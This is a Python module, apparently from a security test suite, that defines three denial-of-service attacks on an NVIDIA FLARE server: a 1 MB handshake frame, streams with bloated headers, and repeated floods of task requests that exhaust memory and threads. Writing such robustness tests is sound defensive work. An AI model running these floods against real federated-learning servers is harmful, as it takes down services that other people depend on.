"""Honest messages in numbers and sizes that no honest site sends: to fill the server's memory, or to hold up others."""

from __future__ import annotations

import asyncio
import itertools
import time

import aiohttp
import msgpack  # type: ignore[import-untyped]
from nvflare.apis.fl_constant import FLContextKey, ServerCommandNames
from nvflare.apis.fl_context import FLContext
from nvflare.apis.shareable import Shareable
from nvflare.fuel.f3.cellnet.defs import CellChannel, Encoding, MessageHeaderKey
from nvflare.fuel.f3.sfm.constants import HandshakeKeys, Types
from nvflare.fuel.f3.sfm.prefix import PREFIX_LEN, Prefix
from nvflare.fuel.f3.streaming.stream_const import StreamHeaderKey
from nvflare.fuel.utils import fobs

from .connections import connect, is_open, with_session
from .hostile import Hostile, Scene

NUMBERS = itertools.count(20_000)
"""Of streams, none of which are the attacks' of another module."""
HANDSHAKE = 1_000_000
"""Bytes of a handshake."""
STREAMS = 60
REQUESTS = 1500
TIMES = 4
"""Floods of so many requests, a few seconds apart."""
PAUSE = 3.0


def says_much_of_itself(hostile: Hostile, scene: Scene) -> None:
    """The server's memory, for as long as it runs, with two frames."""

    async def attack(session: aiohttp.ClientSession) -> None:
        for number in range(2):
            connection = await connect(hostile, session)
            name = {HandshakeKeys.ENDPOINT_NAME: f"{hostile.name}.{number}"}
            content = msgpack.packb({**name, "x": [0] * HANDSHAKE})
            frame = bytearray(PREFIX_LEN)
            Prefix(length=PREFIX_LEN + len(content), type=Types.HELLO).to_buffer(frame, 0)
            await connection.send_bytes(bytes(frame) + content)
            assert not await is_open(connection), "a long handshake is taken"

    asyncio.run(with_session(attack))


def sends_long_headers(hostile: Hostile, scene: Scene) -> None:
    """The server's memory, with streams of one byte."""
    headers = {f"x{number}": [[] for _ in range(500)] for number in range(20)}
    for _ in range(STREAMS):
        _ask(hostile, scene, b"x", {**headers, StreamHeaderKey.RELIABLE: True})


def asks_for_tasks(hostile: Hostile, scene: Scene) -> None:
    """All threads in which requests are handled."""
    context = FLContext()
    context.set_prop(FLContextKey.CURRENT_RUN, scene.job_id, private=False, sticky=True)
    request = Shareable()
    request.set_peer_context(context)
    content = bytes(fobs.dumps(request))

    for _ in range(TIMES):
        for _ in range(REQUESTS):
            _ask(hostile, scene, content, {})
        time.sleep(PAUSE)


def _ask(hostile: Hostile, scene: Scene, content: bytes, headers: dict[str, object]) -> None:
    hostile.chunk(
        CellChannel.SERVER_COMMAND,
        ServerCommandNames.GET_TASK,
        content,
        number=next(NUMBERS),
        to=scene.server_job,
        origin=f"{hostile.name}.{scene.job_id}",
        headers={
            StreamHeaderKey.PAYLOAD_ENCODING: Encoding.FOBS,
            MessageHeaderKey.PAYLOAD_ENCODING: Encoding.BYTES,
            **headers,
        },
    )


ATTACKS = (says_much_of_itself, sends_long_headers, asks_for_tasks)
